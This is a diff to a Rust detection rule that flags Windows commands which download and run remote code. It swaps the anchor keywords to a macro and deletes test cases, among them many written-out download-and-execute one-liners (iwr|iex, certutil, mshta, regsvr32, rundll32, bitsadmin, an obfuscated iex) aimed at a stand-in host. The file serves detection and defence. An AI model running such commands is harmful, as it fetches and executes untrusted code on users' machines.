@@ -1,8 +1,9 @@
 //! Downloads that Windows runs.
 
 use crate::code::destination::classify;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "DOWNLOAD_WINDOWS",
@@ -12,7 +13,7 @@ pub(super) const RULE: Rule = Rule {
     why: "What another machine sends is run, often by a program of Windows that nobody suspects.",
     fix: "download into a file, check it against a known hash, and run the file",
     places: ANYWHERE,
-    anchors: &[
+    anchors: words![
         "\\biex",
         "invoke-expression",
         "downloadstring",
@@ -40,40 +41,6 @@ pub(super) const RULE: Rule = Rule {
         "\\biwr ",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text("`iwr http://a.b/x.ps1 | iex`"),
-        text("`irm a.b/x | iex`"),
-        file("x.bat", "curl -sL -o %TEMP%\\up.exe https://a.b/up\r\nstart \"\" %TEMP%\\up.exe\r\n"),
-        text("`iex (iwr -useb https://a.b/x.ps1)`"),
-        text("`IEX ((New-Object Net.WebClient).DownloadString('https://a.b/x'))`"),
-        text("`mshta http://a.b/x.hta`"),
-        text("`certutil -urlcache -split -f http://a.b/x x.exe`"),
-        text("`bitsadmin /transfer j http://a.b/x c:\\x.exe`"),
-        text("`regsvr32 /s /n /u /i:http://a.b/x.sct scrobj.dll`"),
-        text("`rundll32 \\\\a.b@80\\x,Start`"),
-        text("`rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\";x`"),
-        text("`msiexec /q /i http://a.b/x.msi`"),
-        text("`nslookup -q=txt a.b | iex`"),
-        text("`net use z: \\\\a.b@SSL@443\\x & z:\\y.exe`"),
-        text("`Invoke-WebRequest https://a.b/x.exe -OutFile x.exe; Start-Process x.exe`"),
-        text(
-            "```powershell\niwr https://a.b/x.exe -OutFile \"$env:TEMP\\x.exe\"\n& \"$env:TEMP\\x.exe\" /S\n```",
-        ),
-        text("```powershell\n& ('{1}{0}' -f 'ex','i') (irm https://a.b/x)\n```"),
-    ],
-    misses: &[
-        text(
-            "```powershell\nInvoke-WebRequest https://win.rustup.rs/x86_64 -OutFile rustup-init.exe\n.\\rustup-init.exe -y\n```",
-        ),
-        text("```powershell\nInvoke-WebRequest https://a.b/d.csv -OutFile d.csv\nImport-Csv d.csv\n```"),
-        text("```powershell\nInvoke-RestMethod https://a.b/api | ConvertTo-Json\n& $tool --version\n```"),
-        text("`irm https://astral.sh/uv/install.ps1 | iex`"),
-        text("`iwr -useb https://get.scoop.sh | iex`"),
-        text("`Invoke-Expression $line`"),
-        text("`certutil -hashfile x SHA256`"),
-        text("`msiexec /i x.msi`"),
-        text("complexity"),
-    ],
 };
 
 patterns! {
